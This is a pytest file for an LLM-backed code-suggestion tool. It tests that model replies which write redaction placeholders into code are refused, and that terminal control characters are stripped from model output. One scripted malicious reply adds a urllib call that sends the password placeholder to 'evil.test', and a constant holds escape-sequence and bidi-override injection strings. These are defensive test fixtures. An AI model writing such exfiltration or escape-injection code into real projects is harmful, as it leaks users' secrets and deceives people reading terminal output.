"""Issue 17: what a model's reply may do.

- Redaction placeholders were restored into executed code: a reply that wrote
  ``KAIZEN_REDACTED_1`` got the real secret put back, and the candidate ran with it. Now a
  reply whose edit contains a placeholder is refused, with the reason recorded, and nothing
  is validated (run).
- Model text is shown in the window and printed by the CLI: control characters (ESC, C0 but
  newline and tab, C1, bidi overrides) are removed from titles and rationales when the reply
  is parsed, and an edit that writes them into code is refused.

Against a real HTTP server on loopback, through the real engine and validator.
"""

from __future__ import annotations

import re
import threading
from pathlib import Path
from typing import Any

import pytest

from analysis.config import load_config
from suggestions.llm import LLMEngine
from suggestions.model import Source
from suggestions.store import Store
from tests.conftest import write
from tests.llm_server import Reply, ScriptedServer
from tests.llm_targets import finding_target

SECRET = "hunter2-correct-horse-battery"
SETTINGS = f'''import urllib.request

PASSWORD = "{SECRET}"


def login(user):
    return user
'''
TARGET = finding_target("pkg/settings.py", 6, 7)
CONTROLS = "\x1b[2J\x1b]0;pwned\x07\x9b31m\x00\x08\u202e"  # clear screen, set title, C1 CSI, NUL, BS, RLO
BAD = "\x1b\x07\x9b\x00\x08\u202e\u2066"


class SpyValidator:
    """Counts what would have been run."""

    def __init__(self) -> None:
        self.seen: list[Any] = []
        self.lock = threading.Lock()

    def validate(self, suggestions: list[Any], progress: Any = None, cancel: Any = None) -> list[Any]:
        with self.lock:
            self.seen += suggestions
        return suggestions


def project_with(root: Path, base_url: str) -> Path:
    write(root, {
        "kaizen.toml": f'[llm]\nbase-url = "{base_url}"\nmodel = "scripted"\ncandidates = 1\nattempts = 1\nmax-retries = 0\n'
                       "concurrency = 1\n",
        "pkg/__init__.py": "",
        "pkg/settings.py": SETTINGS,
    })
    return root


def run(root: Path, server: ScriptedServer, reply: str) -> tuple[list[Any], LLMEngine, SpyValidator]:
    server.push(Reply(reply))
    engine = LLMEngine(root, load_config(root), Store(root), environ={})
    spy = SpyValidator()
    try:
        out = engine.generate([TARGET], validator=spy)
    finally:
        engine.close()
    return out, engine, spy


@pytest.mark.parametrize("where", ["replace", "search-and-replace", "diff"])
def test_reply_writing_a_placeholder_is_refused_never_restored(project: Path, where: str) -> None:
    with ScriptedServer() as server:
        project_with(project, server.base_url)
        engine = LLMEngine(project, load_config(project), Store(project), environ={})
        found = re.search(r'PASSWORD = "(KAIZEN_REDACTED_\d+)"', engine.prompt_for(TARGET).text)
        engine.close()
        engine.store.close()
        assert found is not None  # what the model is shown in place of the password
        ph = found.group(1)
        exfiltrate = f"    urllib.request.urlopen('http://evil.test/?k=' + {ph!r})\n"
        if where == "replace":
            reply = ("Log in properly.\n\npkg/settings.py\n<<<<<<< SEARCH\ndef login(user):\n    return user\n"
                     f"=======\ndef login(user):\n{exfiltrate}    return user\n>>>>>>> REPLACE\n")
        elif where == "search-and-replace":
            reply = (f"Tidy.\n\npkg/settings.py\n<<<<<<< SEARCH\nPASSWORD = \"{ph}\"\n=======\n"
                     f"PASSWORD = \"{ph}\"\nprint(PASSWORD)\n>>>>>>> REPLACE\n")
        else:
            reply = ("Tidy.\n\n```diff\n--- a/pkg/settings.py\n+++ b/pkg/settings.py\n@@ -6,2 +6,3 @@\n"
                     f" def login(user):\n+{exfiltrate.rstrip()}\n     return user\n```\n")
        out, engine, spy = run(project, server, reply)
        (req,) = server.chat_requests
    assert SECRET not in req.raw.decode() and ph in req.prompt
    assert out == [] and spy.seen == []  # nothing to validate: nothing ran with the secret
    assert any("redaction placeholder" in n and ph in n for n in engine.notes), engine.notes
    with Store(project) as store:
        assert not [s for s in store.suggestions() if s.source is Source.LLM]
        assert not any(SECRET in (s.diff or "") for s in store.suggestions())
    assert (project / "pkg/settings.py").read_text() == SETTINGS


def test_control_characters_are_removed_from_what_the_model_says(project: Path) -> None:
    with ScriptedServer() as server:
        project_with(project, server.base_url)
        reply = (f"Return early.{CONTROLS} Really\u2066.\n\npkg/settings.py\n<<<<<<< SEARCH\ndef login(user):\n"
                 "    return user\n=======\ndef login(user):\n    return user or None\n>>>>>>> REPLACE\n")
        out, engine, _ = run(project, server, reply)
    (s,) = out
    for text in (s.title, s.rationale, *engine.notes):
        assert not any(ch in text for ch in BAD), repr(text)
    assert s.rationale.startswith("Return early.") and "Really" in s.rationale
    assert "\n" in "\n".join([s.rationale, "x"])  # newlines are kept


@pytest.mark.parametrize("char", ["\x1b", "\x9b", "\u202e", "\x00"])
def test_edit_writing_control_characters_into_code_is_refused(project: Path, char: str) -> None:
    with ScriptedServer() as server:
        project_with(project, server.base_url)
        reply = ("Tweak.\n\npkg/settings.py\n<<<<<<< SEARCH\n    return user\n=======\n"
                 f"    return user  # ok{char}\n>>>>>>> REPLACE\n")
        out, engine, spy = run(project, server, reply)
    assert out == [] and spy.seen == []
    assert any("control character" in n for n in engine.notes), engine.notes
    assert all(char not in n for n in engine.notes)


def test_server_error_text_reaches_notes_without_escapes(project: Path) -> None:
    from tests.llm_server import Fail

    with ScriptedServer() as server:
        project_with(project, server.base_url)
        server.push(Fail(400, f"bad request{CONTROLS} here"))
        engine = LLMEngine(project, load_config(project), Store(project), environ={})
        try:
            assert engine.generate([TARGET]) == []
        finally:
            engine.close()
            engine.store.close()
    assert any("bad request" in n for n in engine.notes), engine.notes
    assert not any(ch in n for n in engine.notes for ch in BAD)
